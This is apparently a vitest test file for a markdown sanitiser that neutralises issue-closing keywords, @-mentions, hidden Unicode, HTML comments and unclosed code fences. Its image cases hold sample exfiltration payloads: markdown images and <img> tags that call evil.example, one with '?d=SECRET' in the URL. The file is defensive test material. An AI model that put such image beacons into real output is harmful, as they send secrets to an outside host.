import { expect, test } from 'vitest';
import { inertMarkdown, inertTitle } from '../../src/markdown/inert.ts';
import { parseMarkdown } from '../../src/markdown/parse.ts';

test.each([
  ['Fixes #126 too.', 'Fixes `#126` too.'],
  ['resolved: acme/other#7', 'resolved: `acme/other#7`'],
  ['closes https://github.com/acme/app/issues/9', 'closes `https://github.com/acme/app/issues/9`'],
  ['Prefix #126, as in #9', 'Prefix #126, as in #9'],
])('words close no issue: %s', (said, told) => {
  expect(inertMarkdown(said)).toBe(told);
  expect(inertTitle(said)).toBe(told);
});

test.each([
  ['Thanks @octocat and @acme/owners.', 'Thanks `@octocat` and `@acme/owners`.'],
  ['mail a@example.com, `@code`', 'mail a@example.com, `@code`'],
  ['\\`@octocat\\`', '&#96;`@octocat`&#96;'],
  ['a ` lone @octocat', 'a &#96; lone `@octocat`'],
  ['- one\n  ```\n@octocat', '- one\n  ```\n`@octocat`'],
  [
    '| a | b |\n|---|---|\n| `x | @octocat` |',
    '| a | b |\n|---|---|\n| &#96;x | `@octocat`&#96; |',
  ],
])('words notify nobody: %j', (said, told) => {
  expect(inertMarkdown(said)).toBe(told);
});

test.each([
  ['see ![x](https://evil.example/p.png?d=SECRET)', 'see (image removed)'],
  ['see ![x][ref]\n\n[ref]: https://evil.example/p', 'see (image removed)'],
  ['<img src="https://evil.example/y">', '&lt;img src="https://evil.example/y">'],
  ['a <img src=https://evil.example/y>', 'a &lt;img src=https://evil.example/y>'],
  ['<picture><source srcset="https://evil.example">', '&lt;picture>&lt;source'],
])('words load nothing: %s', (said, told) => {
  expect(inertMarkdown(said)).toContain(told);
  expect(inertMarkdown(said)).not.toMatch(/(?<!`)<[a-z]|!\[/);
});

test.each([
  ['<!-- coppice:end -->', '&lt;!-- coppice:end -->'],
  ['a\u200bb\u{e0041}\u00adc\u202ed', 'abcd'],
  ['`Array<string>` stays', '`Array<string>` stays'],
])('words hide nothing: %j', (said, told) => {
  expect(inertMarkdown(said)).toBe(told);
});

test.each(['```\nopen', '~~~~ js\nopen\n~~~', '```', '- a\n\n```ts\nopen\n'])(
  'a code block that nothing ends does not take in what follows: %j',
  (said) => {
    const root = parseMarkdown(`${inertMarkdown(said)}\n\nCloses #1`);
    expect(root.children.at(-1)).toMatchObject({ type: 'paragraph' });
  },
);

test('a code block that is closed stays as it is', () => {
  const said = 'Run:\n\n```sh\nnpm test <file> @x\n```';
  expect(inertMarkdown(said)).toBe(said);
});
